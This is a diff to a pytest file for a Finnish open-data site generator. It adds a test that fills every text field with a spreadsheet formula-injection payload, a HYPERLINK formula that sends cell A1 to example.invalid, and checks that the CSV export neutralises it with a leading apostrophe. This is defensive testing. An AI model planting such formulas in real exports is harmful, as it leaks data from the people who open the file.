@@ -13,7 +13,9 @@ from pathlib import Path
 
 import jsonschema
 import pytest
+from browser.hostile import write_hostile_tree
 from conftest import FIXTURE_SITE
+from every_field import fill_tree, hostile_for
 from renamed import renamed_content
 
 from generator.pipeline import build_pages, check
@@ -57,9 +59,12 @@ def test_csv_says_what_json_says(exported):
                 for name, inner in (value or dict.fromkeys(opendata.ExportAnnotation.model_fields)).items():
                     assert line[f"annotation_{name}"] == opendata._cell(inner), (row["id"], name)
             elif isinstance(value, list):
-                assert line[key] == "; ".join(value), (row["id"], key)
+                assert line[key] == opendata.neutralise("; ".join(value)), (row["id"], key)
             else:
-                assert line[key] == ("" if value is None else str(value)), (row["id"], key)
+                assert line[key] == ("" if value is None else opendata.neutralise(str(value))), (
+                    row["id"],
+                    key,
+                )
 
 
 def test_vocabulary_ids_come_with_their_labels(real_index, exported):
@@ -191,3 +196,66 @@ def test_a_kind_has_one_public_name_in_the_finder_the_search_and_the_open_data(e
 def test_the_open_data_page_names_the_former_kind_of_a_pair(real_site: Path):
     page = text((real_site / "avoin-data" / "index.html").read_text(encoding="utf-8"))
     assert "Aiemmin aineistossa oli arvo tavoite-ja-mittari" in page
+
+
+TEXT_COLUMNS = {
+    "title",
+    "text",
+    "context",
+    "objective",
+    "indicator",
+    "summary",
+    "guidance",
+    "sector_labels",
+    "applicant_type_labels",
+    "theme_labels",
+    "quality_standard_labels",
+    "priority_labels",
+    "source_title",
+    "source_publisher",
+    "source_sections",
+    "guidance_sections",
+    "annotation_note",
+}
+NOT_TEXT = {
+    "id": "tunniste",
+    "kind": "vakioarvo",
+    "url": "tunnisteesta",
+    "former_ids": "tunnisteita",
+    "origin": "vakioarvo",
+    "sectors": "tunnisteita",
+    "applicant_types": "tunnisteita",
+    "themes": "tunnisteita",
+    "quality_standards": "tunnisteita",
+    "priorities": "tunnisteita",
+    "source_document": "tunniste",
+    "source_year": "luku",
+    **{f"annotation_{name}": "totuusarvo tai vakioarvo" for name in opendata.ExportAnnotation.model_fields},
+}
+"""Columns that cannot hold free text: ids, fixed values, numbers, truth values."""
+NOT_TEXT.pop("annotation_note")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_csv_cell_is_a_formula_and_json_keeps_the_exact_text(tmp_path, start):
+    """Every text field of every kind begins like a spreadsheet formula: no column of the CSV
+    passes it on as one (OWASP: a leading apostrophe), and the JSON has the text as written."""
+    root = write_hostile_tree(tmp_path / "content")
+    formula = start + 'HYPERLINK("https://example.invalid/?"&A1, "napsauta")'
+    fill_tree(root, lambda f: hostile_for(f, formula), start + "Luku")
+    result = check(root)
+    assert result.problems == [], result.problems
+    files = opendata.files(result.index)
+    text = files[opendata.CSV_FILE].decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    neutralised = set()
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(opendata.FORMULA_STARTS), (column, cell[:30])
+            if cell.startswith("'" + start):
+                neutralised.add(column)
+    assert set(opendata.csv_columns()) == TEXT_COLUMNS | set(NOT_TEXT), "a new column: which kind is it?"
+    assert neutralised == TEXT_COLUMNS
+    exported = json.loads(files[opendata.JSON_FILE])
+    quote = next(row for row in exported if row["kind"] == "lainaus")
+    assert quote["title"] == formula and quote["text"] == formula
